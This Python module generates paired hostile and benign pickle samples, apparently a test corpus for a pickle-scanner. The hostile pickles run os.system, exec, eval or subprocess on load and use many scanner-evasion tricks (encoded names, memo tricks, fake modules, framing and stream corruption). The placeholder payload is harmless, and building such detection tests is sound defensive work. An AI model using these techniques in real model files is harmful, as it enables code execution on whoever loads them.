"""Pickles whose call is plain but whose opcodes are arranged so that a reader loses it."""
import struct

from assembly import Raw, build, call, dot, get, glob, model, new, new_ex, old, pickle, put, seq, text, tup, val
from pair import CODE, SHELL, Set

ORDERED = glob("collections", "OrderedDict")
SYSTEM = glob("os", "system")
NAMESPACE = new(glob("argparse", "Namespace"))


def p(body, proto=4):
    return b"\x80" + bytes([proto]) + body + b"."


def samples():
    """(name, hostile, twin): the same trick with an ordinary callee."""
    # Methods the machine calls on a container that is no container.
    yield "append-hook", p(build(NAMESPACE, {"append": SYSTEM}) + text(SHELL) + b"a"), p(b"]" + text(SHELL) + b"a")
    yield "extend-hook", p(build(NAMESPACE, {"extend": glob("subprocess", "call")}) + b"(" + text("touch") + text("marker") + b"e"), p(b"](" + text("touch") + text("marker") + b"e")
    yield "add-hook", p(build(NAMESPACE, {"add": SYSTEM}) + b"(" + text(SHELL) + b"\x90"), p(b"\x8f(" + text(SHELL) + b"\x90")
    yield "setstate-hook", p(build(build(NAMESPACE, {"__setstate__": SYSTEM}), SHELL)), p(build(NAMESPACE, {"lr": 0.1}))
    # A class is changed, then used by a trusted call.
    wrap = glob("textwrap", "TextWrapper")
    yield "class-attribute", p(seq(build(wrap, (None, {"fill": SYSTEM})), call(glob("textwrap", "fill"), SHELL))), p(seq(build(new(wrap), {"width": 70}), call(glob("collections", "Counter"), SHELL)))
    yield "class-setitem", p(Raw(build(glob("argparse", "Namespace"), (None, {"__setitem__": glob("builtins", "exec")})) + b"0" + NAMESPACE + text(CODE) + b"}s")), p(Raw(build(NAMESPACE, {"a": 1}) + b"0}" + text(CODE) + b"}s"))
    # A module's global is changed, then a trusted function of it runs.
    yield "module-build", p(seq(build(glob("shutil", "fnmatch"), {"_compile_pattern": SYSTEM}), call(glob("fnmatch", "filter"), [], SHELL))), p(call(ORDERED, [(SHELL, 1)]))
    # sys.modules serves a fake module.
    fake = build(NAMESPACE, {"rebuild": SYSTEM})
    modules = glob("sys", "modules")
    yield "fake-module", p(seq(Raw(modules + text("numpy_compat") + fake + b"s"), call(glob("numpy_compat", "rebuild"), SHELL))), p(seq(Raw(b"}" + text("numpy_compat") + build(NAMESPACE, {"rebuild": 1}) + b"s"), call(ORDERED, [])))
    yield "module-alias-real-name", p(seq(Raw(modules + text("sklearn.tree") + glob("shutil", "os") + b"s"), call(glob("sklearn.tree", "system"), SHELL))), p(call(glob("collections", "Counter"), SHELL))
    # Extension registry.
    inverted = glob("copyreg", "_inverted_registry")
    yield "ext-inverted", p(seq(Raw(inverted + b"K\x07" + tup("os", "system") + b"s"), Raw(b"\x82\x07" + tup(SHELL) + b"R"))), p(seq(Raw(b"}K\x07" + tup("os", "x") + b"s"), call(ORDERED, [])))
    cache = glob("copyreg", "_extension_cache")
    yield "ext-cache", p(seq(Raw(cache + b"J" + struct.pack("<i", 70000) + SYSTEM + b"s"), Raw(b"\x84" + struct.pack("<i", 70000) + tup(SHELL) + b"R"))), p(seq(Raw(b"}J" + struct.pack("<i", 70000) + text("x") + b"s"), call(ORDERED, [])))
    # Names computed while loading.
    yield "name-concat", p(Raw(text("os") + call(glob("_operator", "concat"), "sys", "tem") + b"\x93" + tup(SHELL) + b"R")), p(Raw(text("collections") + text("OrderedDict") + b"\x93)R"))
    yield "name-join", p(Raw(call(dot("builtins", "str", "join"), "", ["o", "s"]) + text("system") + b"\x93" + tup(SHELL) + b"R")), p(call(ORDERED, [("o", "s")]))
    yield "name-rot13", p(Raw(call(glob("codecs", "decode"), "cbfvk", "rot13") + call(glob("codecs", "decode"), "flfgrz", "rot13") + b"\x93" + tup(SHELL) + b"R")), p(call(glob("_codecs", "encode"), "abc\xff", "latin1"))
    yield "name-slice", p(Raw(text("os") + call(glob("operator", "getitem"), "metsys", call(glob("builtins", "slice"), None, None, -1)) + b"\x93" + tup(SHELL) + b"R")), p(val([call(glob("builtins", "slice"), None, None, -1), "metsys"]))
    yield "name-from-bytes", p(Raw(call(glob("builtins", "str"), b"os", "ascii") + call(glob("builtins", "str"), b"system", "ascii") + b"\x93" + tup(SHELL) + b"R")), p(call(glob("builtins", "bytearray"), b"system"))
    yield "name-replace", p(Raw(text("os") + call(dot("builtins", "str", "replace"), "s_y_s_t_e_m", "_", "") + b"\x93" + tup(SHELL) + b"R")), p(val({"s_y_s_t_e_m": "_"}))
    yield "name-format", p(Raw(text("os") + call(dot("builtins", "str", "format"), "{}{}", "sys", "tem") + b"\x93" + tup(SHELL) + b"R")), p(val(["{}{}", "sys", "tem"]))
    yield "name-chr-map", p(Raw(text("os") + call(dot("builtins", "bytes", "decode"), call(glob("builtins", "bytes"), [115, 121, 115, 116, 101, 109])) + b"\x93" + tup(SHELL) + b"R")), p(call(glob("builtins", "bytearray"), b"\x73\x79\x73"))
    yield "name-doc-character", p(Raw(call(glob("operator", "getitem"), glob("os", "__name__"), call(glob("builtins", "slice"), 0, 2, None)) + text("system") + b"\x93" + tup(SHELL) + b"R")), p(val(("os", 0, 2)))
    yield "name-memo-swap", p(Raw(text("os") + text("path") + b"q\x010" + text("system") + b"q\x010h\x01\x93" + tup(SHELL) + b"R")), p(Raw(b"(" + text("path") + b"q\x010" + text("system") + b"q\x010h\x01t"))
    # Memo and stack confusion.
    yield "memo-overwrite", p(Raw(put(5, ORDERED) + b"0" + put(5, SYSTEM) + b"0" + get(5) + tup(SHELL) + b"R")), p(Raw(put(5, SYSTEM_FREE) + b"0" + put(5, ORDERED) + b"0" + get(5) + b")R"))
    yield "long-memo-index", p(Raw(SYSTEM + b"r\xff\xff\x0f\x000" + ORDERED + b"q\xff0j\xff\xff\x0f\x00" + tup(SHELL) + b"R")), p(Raw(ORDERED + b"r\xff\xff\x0f\x000" + ORDERED + b"q\xff0j\xff\xff\x0f\x00)R"))
    yield "text-memo", b"cos\nsystem\np007\n0ccollections\nOrderedDict\np8\n0g7\n(S'touch marker'\ntR.", b"ccollections\nCounter\np007\n0ccollections\nOrderedDict\np8\n0g8\n(tR."
    yield "memoize-count", p(Raw(text("a") + b"\x94" + text("b") + b"\x94" + SYSTEM + b"\x94" + text("c") + b"\x940000h\x02" + tup(SHELL) + b"R")), p(Raw(text("a") + b"\x94" + text("b") + b"\x94" + ORDERED + b"\x94" + text("c") + b"\x940000h\x02)R"))
    yield "dup-and-pop-mark", p(Raw(SYSTEM + b"(" + ORDERED + text("x") + b"1" + tup(SHELL) + b"R2(K\x01K\x021" + b"0")), p(Raw(ORDERED + b"(" + ORDERED + text("x") + b"1)R2(K\x01K\x0210"))
    yield "mark-below", p(Raw(b"((" + SYSTEM + b"1" + SYSTEM + tup(SHELL) + b"Rt")), p(Raw(b"((" + ORDERED + b"1" + ORDERED + b")Rt"))
    # Opcodes that call without REDUCE.
    yield "obj-opcode", p(Raw(b"(" + SYSTEM + text(SHELL) + b"o")), p(Raw(b"(" + ORDERED + b"o"))
    yield "inst-opcode", b"(S'touch marker'\nios\nsystem\n.", b"(icollections\nOrderedDict\n."
    yield "inst-python2-name", b"(S'touch marker'\nicommands\ngetoutput\n.", b"(icollections\nCounter\n."
    yield "newobj-ex-class", p(Raw(new_ex(build(glob("argparse", "Namespace"), (None, {"__setstate__": SYSTEM})), (), {}) + text(SHELL) + b"b")), p(Raw(new_ex(glob("argparse", "Namespace"), (), {}) + val({"a": CODE}) + b"b"))
    # Python 2 names that protocol 2 maps.
    yield "python2-builtin", b"\x80\x02c__builtin__\neval\nX" + struct.pack("<I", len(CODE)) + CODE.encode() + b"\x85R.", b"\x80\x02c__builtin__\nset\n]\x85R."
    yield "python2-urlretrieve", b"\x80\x02curllib\nurlretrieve\n(X\x14\x00\x00\x00file:///etc/hostnameX\x06\x00\x00\x00markertR.", b"\x80\x02c__builtin__\nxrange\n(K\x00K\x05K\x01tR."
    yield "python2-imap", b"\x80\x02c__builtin__\ntuple\ncitertools\nimap\ncos\nsystem\n(X\x0c\x00\x00\x00touch markert\x86R\x85R.", b"\x80\x02c__builtin__\nset\n(X\x0c\x00\x00\x00touch markerl\x85R."
    # Framing.
    inner = call(SYSTEM, SHELL)
    yield "frame-short", b"\x80\x04\x95" + struct.pack("<Q", 4) + b"]\x94" + b"0N" + b"0" + inner + b".", b"\x80\x04\x95" + struct.pack("<Q", 4) + b"]\x94" + b"0N" + b"0" + call(ORDERED) + b"."
    yield "frame-many-tiny", b"\x80\x04" + frames(inner + b"."), b"\x80\x04" + frames(call(ORDERED) + b".")
    yield "proto-late", b"]0" + b"\x80\x04" + inner + b".", b"]0\x80\x04" + call(ORDERED) + b"."
    # Broken or doubled streams.
    yield "broken-after-call", p(Raw(inner + b"\xff\xff\xff"))[:-1], b"\x80\x04" + val({"a": [1, 2]}) + b"."
    yield "truncated-string-after-call", p(inner)[:-1] + b"X\xff\xff\xff\x7fabc", p(val({"a": "abc"}))
    yield "third-of-three", p(val([1, 2])) + p(val({"a": 1})) + p(inner), p(val([1, 2])) + p(val({"a": 1})) + p(call(ORDERED))
    yield "after-thousand-plain", b"".join(p(val(i)) for i in range(1200)) + p(inner), b"".join(p(val(i)) for i in range(1200)) + p(call(ORDERED))
    yield "underflow-after-call", p(inner)[:-1] + b"0000000.", p(val([]))
    yield "call-then-memo-miss", p(inner)[:-1] + b"h\xee.", p(val([1]))
    yield "deep-list", p(Raw(b"]" * 3000 + inner + b"a" * 3000)), p(Raw(b"]" * 3000 + call(ORDERED) + b"a" * 3000))
    # Text forms.
    yield "unicode-escapes", b"V\\u006f\\u0073\nV\\u0073ystem\n\x93(V\\u0074ouch marker\ntR.", b"Vcollections\nV\\u004frderedDict\n\x93)R."
    yield "string-escapes", b"S'o\\x73'\nS'\\163ystem'\n\x93(S'touch marker'\ntR.", b"S'collections'\nS'\\117rderedDict'\n\x93)R."
    yield "binstring-names", b"U\x02osU\x06system\x93(T\x0c\x00\x00\x00touch markertR.", b"U\x0bcollectionsU\x0bOrderedDict\x93)R."
    yield "unicode8-names", b"\x80\x04\x8d" + struct.pack("<Q", 5) + b"posix\x8d" + struct.pack("<Q", 6) + b"system\x93" + tup(SHELL) + b"R.", b"\x80\x04\x8d" + struct.pack("<Q", 11) + b"collections\x8d" + struct.pack("<Q", 7) + b"Counter\x93)R."
    # Objects that are hostile when used, not when loaded.
    yield "persistent-call", p(Raw(b"]0" + inner + text("x") + b"\x86")), p(Raw(b"]0" + call(ORDERED) + text("x") + b"\x86"))
    # Names that reach the target through an innocent module.
    yield "dotted-through-library", p(call(dot("random", "_os", "system"), SHELL)), p(call(dot("collections", "OrderedDict", "fromkeys"), ["a"]))
    yield "dotted-globals", p(call(call(dot("builtins", "dict", "get"), dot("string", "capwords", "__builtins__"), "exec"), CODE)), p(call(dot("builtins", "dict", "fromkeys"), ["exec"], CODE))
    yield "self-attribute", p(call(call(glob("builtins", "getattr"), dot("builtins", "print", "__self__"), "eval"), CODE)), p(val(["print", "__self__"]))
    yield "attrgetter-chain", p(call(call(call(glob("operator", "attrgetter"), "os.system"), build(NAMESPACE, {"os": glob("shutil", "os")})), SHELL)), p(build(NAMESPACE, {"os": "linux"}))
    yield "resolve-name", p(call(call(glob("pkgutil", "resolve_name"), "os:system"), SHELL)), p(call(ORDERED, [("os", "system")]))
    yield "typing-get-attr", p(call(call(glob("inspect", "getattr_static"), glob("shutil", "os"), "system"), SHELL)), p(call(glob("collections", "Counter"), "system"))
    yield "importlib-spec", p(call(dot("importlib.machinery", "SourceFileLoader", "load_module"), call(glob("importlib.machinery", "SourceFileLoader"), "payload", "payload.py"))), p(call(ORDERED, [("payload", "payload.py")]))
    yield "sys-path-local-module", p(seq(call(dot("sys", "path", "insert"), 0, "."), glob("payload", "x"))), p(val(["sys.path", 0, "."]))
    yield "gadget-in-dict-key", p(Raw(b"}" + inner + text("v") + b"s")), p(Raw(b"}" + call(glob("datetime", "date"), b"\x07\xe8\x01\x02") + text("v") + b"s"))
    yield "gadget-in-set", p(Raw(b"\x8f(" + inner + b"K\x05\x90")), p(Raw(b"\x8f(" + call(glob("datetime", "date"), b"\x07\xe8\x01\x02") + b"K\x05\x90"))
    yield "object-array", p(array_of(inner)), p(array_of(val("plain")))


SYSTEM_FREE = glob("collections", "Counter")


def array_of(item):
    """A numpy object array the way numpy pickles one, holding `item`."""
    empty = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b")
    dtype = build(call(glob("numpy", "dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    return build(empty, (1, (1,), dtype, False, [Raw(item)]))


def frames(data):
    """Each opcode's bytes in a frame of its own would not load; two frames do."""
    cut = data.index(b"\x93") + 1
    return b"\x95" + struct.pack("<Q", cut) + data[:cut] + b"\x95" + struct.pack("<Q", len(data) - cut) + data[cut:]


FILES = ["model.pkl", "weights.pickle", "tokenizer.dat", "data.bin"]
BESIDE = {"importlib-spec", "sys-path-local-module"}


def add(out: Set):
    for n, (name, hostile, twin) in enumerate(samples()):
        file = FILES[n % 4]
        if name in BESIDE:
            out.add("pickle-machine", name, {file: hostile, "payload.py": CODE + "\nx = 1\n"}, {file: twin, "payload.py": "def scale(v):\n    return v * 2\n\nx = 1\n"}, "pickle")
        else:
            out.add("pickle-machine", name, hostile, twin, "pickle", file=file)
